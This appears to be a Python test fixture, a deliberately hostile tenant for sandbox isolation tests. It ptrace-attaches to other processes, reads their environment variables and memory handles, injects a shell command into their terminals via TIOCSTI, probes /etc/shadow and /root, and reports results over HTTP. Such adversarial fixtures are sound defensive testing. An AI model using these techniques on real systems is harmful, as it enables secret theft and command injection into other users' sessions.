# A hostile tenant, for the sandbox identity tests: reports who it is, tries to read host
# files, and keeps attacking every process in its box that it did not start (such as the
# shell `yard shell` opens): ptrace, /proc/<pid>/environ and mem, its terminal, TIOCSTI.
import ctypes
import errno
import fcntl
import json
import os
import termios
import threading
import time
import http.server
import urllib.parse

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
attacks = {}
lock = threading.Lock()


def status_field(pid, name):
    try:
        with open(f"/proc/{pid}/status") as handle:
            for line in handle:
                if line.startswith(name + ":"):
                    return line.split()[1:]
    except OSError:
        return None
    return None


def mine(pid):
    """Whether pid is this app's process: itself, an ancestor or a descendant."""
    me = os.getpid()
    current = pid
    for _ in range(64):
        if current in (me, 0):
            return current == me
        parent = status_field(current, "PPid")
        if parent is None:
            return True
        current = int(parent[0])
    return True


def ancestors():
    chain, current = set(), os.getpid()
    while current > 0:
        chain.add(current)
        parent = status_field(current, "PPid")
        current = int(parent[0]) if parent else 0
    return chain


def try_open(path, flags):
    try:
        fd = os.open(path, flags)
        return fd, "ok"
    except OSError as error:
        return None, errno.errorcode.get(error.errno, str(error.errno))


def attack(pid):
    report = {"pid": pid, "uid": status_field(pid, "Uid")}
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
        report["ptrace"] = "ok"
        os.waitpid(pid, 0x40000000)  # __WALL
        libc.ptrace(PTRACE_DETACH, pid, None, None)
    else:
        report["ptrace"] = errno.errorcode.get(ctypes.get_errno(), "?")
    fd, report["environ"] = try_open(f"/proc/{pid}/environ", os.O_RDONLY)
    if fd is not None:
        report["environ_text"] = os.read(fd, 65536).decode(errors="replace")
        os.close(fd)
    fd, report["mem"] = try_open(f"/proc/{pid}/mem", os.O_RDWR)
    if fd is not None:
        os.close(fd)
    fd, report["terminal"] = try_open(f"/proc/{pid}/fd/0", os.O_RDWR | os.O_NOCTTY)
    if fd is not None:
        try:
            for byte in b"id > /tmp/yard-e2e-tiocsti\n":
                fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
            report["tiocsti"] = "ok"
        except OSError as error:
            report["tiocsti"] = errno.errorcode.get(error.errno, str(error.errno))
        os.close(fd)
    return report


def attacker():
    while True:
        mine_now = ancestors()
        for entry in os.listdir("/proc"):
            if not entry.isdigit():
                continue
            pid = int(entry)
            if pid in mine_now or pid == 1 or mine(pid):
                continue
            with lock:
                seen = pid in attacks
            if not seen:
                report = attack(pid)
                with lock:
                    attacks[pid] = report
        time.sleep(0.02)


def facts():
    answer = {"uid": os.getuid(), "gid": os.getgid(), "groups": os.getgroups()}
    answer["cap_eff"] = (status_field("self", "CapEff") or ["?"])[0]
    answer["no_new_privs"] = (status_field("self", "NoNewPrivs") or ["?"])[0]
    for path in ["/etc/shadow", "/root", "/proc/1/environ"]:
        try:
            if os.path.isdir(path):
                os.listdir(path)
            else:
                with open(path, "rb") as handle:
                    handle.read(16)
            answer[path] = "read"
        except OSError as error:
            answer[path] = errno.errorcode.get(error.errno, str(error.errno))
    mount = os.environ.get("RAILWAY_VOLUME_MOUNT_PATH")
    if mount:
        try:
            with open(os.path.join(mount, "tenant.txt"), "w") as handle:
                handle.write(os.environ.get("HOSTILE_MARK", ""))
            answer["volume_write"] = "ok"
        except OSError as error:
            answer["volume_write"] = errno.errorcode.get(error.errno, str(error.errno))
    return answer


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        path = urllib.parse.urlparse(self.path).path
        if path == "/facts":
            body = facts()
        elif path == "/attacks":
            with lock:
                body = list(attacks.values())
        else:
            body = {"ok": True}
        data = json.dumps(body).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args):
        pass


threading.Thread(target=attacker, daemon=True).start()
http.server.ThreadingHTTPServer(("0.0.0.0", int(os.environ.get("PORT", "8080"))), Handler).serve_forever()
